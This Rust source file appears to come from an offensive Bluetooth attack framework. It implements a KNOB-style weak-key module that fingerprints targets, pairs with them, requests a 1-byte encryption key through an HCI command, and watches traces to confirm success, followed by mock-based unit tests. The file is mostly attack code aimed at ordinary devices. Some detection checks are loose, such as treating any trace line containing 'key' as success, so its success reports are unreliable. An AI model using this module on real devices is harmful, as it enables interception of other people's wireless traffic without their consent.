//! Weak-key negotiation (KNOB-style).

use async_trait::async_trait;
use std::time::Duration;
use tokio::time::{timeout_at, Instant};

use bluefang_codec::hci;
use bluefang_common::{AttackKind, BdAddr, BlueResult};
use bluefang_fingerprint::{matches_any, WEAK_KEY_MARKERS, WEAK_KEY_VERSIONS};

use crate::module::{AttackContext, AttackModule};
use crate::probe;

/// How long the link trace is watched after the key-size request.
const WATCH_WINDOW: Duration = Duration::from_secs(2);

/// Requested encryption key size, in bytes.
const MIN_KEY_SIZE: u8 = 1;

#[derive(Debug, Default)]
pub struct WeakKey;

impl WeakKey {
    pub fn new() -> Self {
        Self
    }
}

#[async_trait]
impl AttackModule for WeakKey {
    fn kind(&self) -> AttackKind {
        AttackKind::WeakKey
    }

    async fn check_vulnerability(&mut self, target: BdAddr, ctx: &AttackContext) -> BlueResult<bool> {
        let Some(info) = probe::device_info(ctx, target).await? else {
            return Ok(false);
        };
        if let Some(version) = matches_any(&info, WEAK_KEY_VERSIONS) {
            ctx.log.info(format!("Stack version {} negotiates key size", version));
            return Ok(true);
        }
        if matches_any(&info, WEAK_KEY_MARKERS).is_some() {
            ctx.log.info("Secure Simple Pairing advertised");
            return Ok(true);
        }
        Ok(false)
    }

    async fn exploit(&mut self, target: BdAddr, ctx: &AttackContext) -> BlueResult<bool> {
        let script = vec![
            "agent on".to_string(),
            "default-agent".to_string(),
            format!("connect {}", target),
            format!("pair {}", target),
        ];
        let res = ctx.cancel.run(ctx.toolkit.agent.run(&script, ctx.timeout())).await;
        match probe::recover(ctx, "pairing agent", res)? {
            Some(out) if out.contains("Failed") || out.contains("Error") => {
                ctx.log.warning("Agent reported a pairing failure, continuing");
            }
            Some(_) => ctx.log.info("Link established through agent"),
            None => ctx.log.warning("Agent did not answer, continuing"),
        }

        ctx.cancel.check()?;
        ctx.log.info(format!("Requesting {}-byte encryption key", MIN_KEY_SIZE));
        let frame = hci::key_size_request(MIN_KEY_SIZE);
        let res = ctx.cancel.run(ctx.toolkit.hci.command(&frame, ctx.timeout())).await;
        if probe::recover(ctx, "hci command", res)?.is_some() {
            ctx.log.success("Controller accepted the key-size request");
            Ok(true)
        } else {
            Ok(false)
        }
    }

    async fn run_payload(&mut self, _target: BdAddr, ctx: &AttackContext) -> BlueResult<bool> {
        let mut source = ctx.cancel.run(ctx.toolkit.traces.open()).await?;
        let deadline = Instant::now() + WATCH_WINDOW;
        loop {
            let line = match ctx.cancel.run(async {
                Ok(timeout_at(deadline, source.next_line()).await.ok())
            })
            .await?
            {
                Some(Ok(Some(line))) => line,
                Some(Ok(None)) | None => break,
                Some(Err(e)) if e.is_recoverable() => break,
                Some(Err(e)) => return Err(e),
            };
            let lower = line.to_lowercase();
            if lower.contains("encryption") || lower.contains("key") {
                ctx.log.success("Encrypted traffic observed on the link");
                return Ok(true);
            }
        }
        Ok(false)
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::testing::{target, Harness, MockAgent, MockHci};
    use std::sync::Arc;

    #[tokio::test]
    async fn ssp_marker_marks_target() {
        let harness = Harness {
            info: Some("Features: 0xbf 0xfe Secure Simple Pairing".into()),
            ..Harness::default()
        };
        assert!(WeakKey::new().check_vulnerability(target(), &harness.context()).await.unwrap());
    }

    #[tokio::test]
    async fn modern_stack_is_skipped() {
        let harness = Harness {
            info: Some("LMP Version: 5.3 (0xc)".into()),
            ..Harness::default()
        };
        assert!(!WeakKey::new().check_vulnerability(target(), &harness.context()).await.unwrap());
    }

    #[tokio::test(start_paused = true)]
    async fn full_run_sends_key_size_request() {
        let agent = Arc::new(MockAgent::default());
        let hci = Arc::new(MockHci::default());
        let harness = Harness {
            info: Some("LMP Version: 4.2".into()),
            agent: agent.clone(),
            hci: hci.clone(),
            trace_lines: vec![
                "> HCI Event: Command Complete (0x0e) plen 4".into(),
                "< HCI Command: Read Encryption Key Size (0x05|0x0008) plen 2".into(),
            ],
            ..Harness::default()
        };
        assert!(WeakKey::new().execute(target(), &harness.context()).await.unwrap());

        assert_eq!(hci.frames(), vec![hci::key_size_request(1)]);
        let scripts = agent.scripts();
        assert_eq!(scripts.len(), 1);
        assert_eq!(scripts[0][0], "agent on");
        assert_eq!(scripts[0][3], format!("pair {}", target()));
    }

    #[tokio::test]
    async fn rejected_command_fails_exploit() {
        let harness = Harness {
            hci: Arc::new(MockHci::rejecting()),
            ..Harness::default()
        };
        assert!(!WeakKey::new().exploit(target(), &harness.context()).await.unwrap());
    }

    #[tokio::test(start_paused = true)]
    async fn quiet_trace_does_not_confirm() {
        let harness = Harness {
            trace_lines: vec!["> ACL Data RX: Handle 12 flags 0x02 dlen 9".into()],
            ..Harness::default()
        };
        assert!(!WeakKey::new().run_payload(target(), &harness.context()).await.unwrap());
    }
}
